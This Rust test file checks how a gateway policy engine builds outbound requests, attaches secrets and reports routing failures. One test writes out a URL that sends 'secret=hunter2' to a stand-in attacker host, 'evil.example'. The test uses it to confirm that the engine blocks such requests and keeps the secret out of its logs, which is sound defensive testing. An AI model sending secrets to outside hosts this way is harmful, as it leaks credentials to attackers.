//! Requests of the document's own.

use keyward_policy::Failure;

use super::own::{call, failed, passed, read, sent};
use super::world::{End, refused, request};

const PRICES: &str = "<set-url>https://prices.example/p</set-url><set-method>GET</set-method>";

#[test]
fn url_method_headers_and_body_are_what_the_children_say() {
    let sent = sent(
        "",
        "<set-url>@(\"https://prices.example:8443/cheap/x?a=\" + \"1%262\" + \"&b=c d\")</set-url><set-method>POST</set-method>\
         <set-header name=\"X-A\"><value>1</value><value>2</value></set-header>\
         <set-header name=\"x-a\" exists-action=\"append\"><value>3</value></set-header>\
         <set-body>@(\"{\" + \"}\")</set-body>",
        request("GET", "/")
            .header("x-client", "1")
            .body(b"the client's"),
    );
    assert_eq!(
        (&*sent.route, &*sent.method, &*sent.path),
        ("cheap", "POST", "/x")
    );
    let pair = |name: &str, value: &str| (name.to_owned(), value.to_owned());
    assert_eq!(sent.query, [pair("a", "1&2"), pair("b", "c d")]);
    assert_eq!(sent.headers, [("x-a".to_owned(), b"1,2,3".to_vec())]);
    assert_eq!(sent.body, b"{}");
}

#[test]
fn where_no_route_leads_there_is_no_request_and_the_operator_learns_what_is_missing() {
    let url = "@(\"https://\" + \"evil.example\" + \"/?secret=hunter2\")";
    let text = call(
        "ignore-error=\"true\"",
        &format!("<set-url>{url}</set-url><set-method>GET</set-method>"),
    );
    let (status, line, world) = failed(&text, request("GET", "/"));
    assert_eq!(status, 500);
    assert!(line.contains("https://evil.example"), "{line}");
    assert!(
        line.contains("[[route]]") && !line.contains("hunter2"),
        "{line}"
    );
    assert_eq!(world.simulation.calls(), []);
    // One that is written down is found when the document is compiled.
    assert!(refused(&format!(
        "<inbound>{}</inbound>",
        text.replace(url, "https://evil.example/")
    )));
}

#[test]
fn what_an_operator_has_to_put_right_is_no_error_to_ignore() {
    let denied = request("GET", "/").route_fails("prices", Failure::Denied);
    let (status, line, _) = failed(&call("ignore-error=\"true\"", PRICES), denied);
    assert_eq!(status, 500);
    assert!(line.contains("routes = [\"prices\"]"), "{line}");
}

#[test]
fn a_failure_of_another_is_told_without_what_it_was_about() {
    let text = format!(
        "<inbound>{}</inbound><on-error><set-header name=\"x-why\"><value>@(context.LastError.Source + \" \" + context.LastError.Reason)</value></set-header></on-error>",
        call("", PRICES)
    );
    let unavailable = request("GET", "/").route_fails("prices", Failure::Unavailable);
    let world = super::world::World::new(&text, unavailable);
    assert_eq!(world.run(), End::Failed);
    let why = world.simulation.response_header("x-why");
    assert_eq!(
        why.as_deref(),
        Some("send-request BackendConnectionFailure")
    );
    assert!(!world.simulation.response_body().contains("prices"));
}

#[test]
fn what_can_not_be_sent_is_no_failure_of_the_backend() {
    for (failure, expected) in [
        (Failure::Limit, "OperationFailed"),
        (Failure::Invalid, "OperationFailed"),
        (Failure::Unavailable, "BackendConnectionFailure"),
    ] {
        let simulation = request("GET", "/").route_fails("prices", failure);
        let (status, line, _) = failed(&call("", PRICES), simulation);
        assert_eq!(status, 500);
        assert!(line.contains(expected), "{failure}: {line}");
    }
}

#[test]
fn secrets_and_identities_go_onto_that_request_and_not_onto_the_clients() {
    for (children, alias) in [
        (
            "<set-header name=\"x-key\"><value>{{key}}</value></set-header>",
            "key.x-key",
        ),
        (
            "<authentication-basic username=\"a\" password=\"{{key}}\"/>",
            "key.basic",
        ),
        (
            "<authentication-certificate certificate-id=\"client\"/>",
            "client.certificate",
        ),
        (
            "<authentication-managed-identity resource=\"https://vault.example\"/>",
            "vault.example.token",
        ),
    ] {
        let text = call("", &format!("{PRICES}{children}"));
        let world = passed(&text, request("GET", "/").grant(alias));
        assert_eq!(world.simulation.calls()[0].attached, [alias], "{children}");
        assert_eq!(world.simulation.attached(), [""; 0], "{children}");
        // Without a grant nothing is sent.
        let (status, _, world) = failed(&text, request("GET", "/"));
        assert_eq!(
            (status, world.simulation.calls().len()),
            (500, 0),
            "{children}"
        );
    }
    let literal = sent(
        "",
        &format!("{PRICES}<authentication-basic username=\"a\" password=\"b\"/>"),
        request("GET", "/"),
    );
    assert_eq!(
        literal.headers,
        [("authorization".to_owned(), b"Basic YTpi".to_vec())]
    );
}

#[test]
fn a_copy_leaves_out_what_the_host_writes_itself() {
    let copied = sent(
        "mode=\"copy\"",
        "<set-url>https://prices.example/p</set-url><set-header name=\"x-b\" exists-action=\"delete\"/>",
        request("POST", "/")
            .header("host", "shop.example")
            .header("connection", "close")
            .header("content_length", "7")
            .header("x-a", "1")
            .header("x-a", "2")
            .header("x-b", "3"),
    );
    assert_eq!(copied.headers, [("x-a".to_owned(), b"1,2".to_vec())]);
}

#[test]
fn on_the_way_of_the_answer_a_copy_has_no_body() {
    let text = call(
        "mode=\"copy\"",
        "<set-url>https://prices.example/p</set-url>",
    );
    let world = super::world::outbound(&text, request("POST", "/").body(b"x").answered(200));
    assert_eq!(world.simulation.calls()[0].body, b"");
    let inbound = passed(&text, request("POST", "/").body(b"x"));
    assert_eq!(inbound.simulation.calls()[0].body, b"x", "control");
}

#[test]
fn an_answer_of_500_is_an_answer() {
    let simulation = request("GET", "/").route("prices", 500, b"{\"a\": 1}");
    let show = "@(((IResponse)context.Variables[\"r\"]).Body.As<JObject>()[\"a\"].ToString())";
    assert_eq!(
        read(&call("", PRICES), show, simulation).as_deref(),
        Some("1")
    );
}
